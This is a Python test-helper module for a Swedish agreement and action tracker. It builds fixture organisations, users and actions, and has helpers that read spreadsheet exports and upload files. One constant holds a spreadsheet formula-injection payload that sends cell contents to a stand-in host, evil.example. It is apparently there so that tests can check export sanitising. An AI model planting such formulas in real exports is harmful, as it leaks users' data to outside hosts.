"""The world the spreadsheet tests share, and helpers that read exports back and upload files."""
import csv
import datetime as dt
import io
from types import SimpleNamespace

from openpyxl import Workbook, load_workbook
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from tests.factories import make_agreement, make_organisation, make_user, make_viewer
from tracker.actions.models import ActionStatus
from tracker.actions.services import create_action, log_progress
from tracker.clock import local_today
from tracker.extensions import db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")'


def days(n: int) -> dt.date:
    return local_today() + dt.timedelta(days=n)


def make_world() -> SimpleNamespace:
    """Two parties (lead Polisen, party Socialtjänsten), their coordinators, a viewer in the steering group, an
    outsider; an agreement from 400 days ago to 400 days ahead with four actions made as people make them today
    (one with hostile text, one blocked, one done), and a second agreement with the same parties, still empty."""
    lead = make_organisation(name="Polisen Järva", short_name="Polisen")
    party = make_organisation(name="Socialtjänsten Rinkeby-Kista", short_name="Soc RK")
    outside = make_organisation(name="Utomstående AB", short_name="Utom")
    w = SimpleNamespace(lead=lead, party=party, outside=outside)
    w.erik = make_user(organisation=lead, name="Erik Johansson", email="erik@polisen.example.se")
    w.maria = make_user(organisation=party, name="Maria Nilsson", email="maria@soc.example.se")
    w.viewer = make_viewer(organisation=outside, name="Gunnar Wallin")
    w.stranger = make_user(organisation=outside, name="Olle Utomstående")
    w.agreement = make_agreement(title="Trygg i Järva", lead_organisation=lead, parties=[lead, party],
                                 steering_group=[w.viewer], starts_on=days(-400), ends_on=days(400))
    w.second = make_agreement(title="Trygg i Järva 2", lead_organisation=lead, parties=[lead, party],
                              starts_on=days(-400), ends_on=days(400))
    w.actions = fill(w.agreement, w)
    db.session.commit()
    return w


def fill(agreement, w) -> list:
    """The four actions of the world's agreement, made through the services (by their own coordinators)."""
    rows = [
        (w.lead, w.erik, "Nattvandring i Rinkeby", "Vuxna på stan fredag och lördag.\nMed föreningarna.", 30,
         ActionStatus.IN_PROGRESS, 40, ""),
        (w.lead, w.erik, HOSTILE, "-5 grader: +tjocka jackor @ alla", 60, ActionStatus.PLANNED, 0, ""),
        (w.party, w.maria, "Föräldraträffar på Ärvingeskolan", "", -10, ActionStatus.BLOCKED, 20,
         "Lokalen är inte bokad."),
        (w.party, w.maria, "Kartläggning av mötesplatser", "Klar i oktober.", 5, ActionStatus.DONE, 100, ""),
    ]
    actions = []
    for organisation, owner, title, description, deadline, status, progress, reason in rows:
        action = create_action(agreement, {"title": title, "description": description,
                                           "owner_organisation_id": organisation.id, "owner_id": owner.id,
                                           "deadline": days(deadline)}, by=owner)
        if status is not ActionStatus.PLANNED:
            log_progress(action, text="Läget.", status=status, progress=progress, blocked_reason=reason, by=owner,
                         version=action.version)
        actions.append(action)
    return actions


def xlsx_rows(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [[c.value for c in row] for row in sheet.iter_rows()]


def csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";" if ";" in text.splitlines()[0] else ","))


def workbook(rows: list[list]) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def upload(client, agreement_id: int, data: bytes, filename: str = "åtgärder.xlsx"):
    """Post the file as a browser does. (The body is made in memory: the test client's own encoding spools a large
    file to a temporary file that it never closes.)"""
    boundary, body = encode_multipart({"file": FileStorage(io.BytesIO(data), filename=filename)})
    return client.post(f"/agreements/{agreement_id}/import", data=body,
                       content_type=f"multipart/form-data; boundary={boundary}")
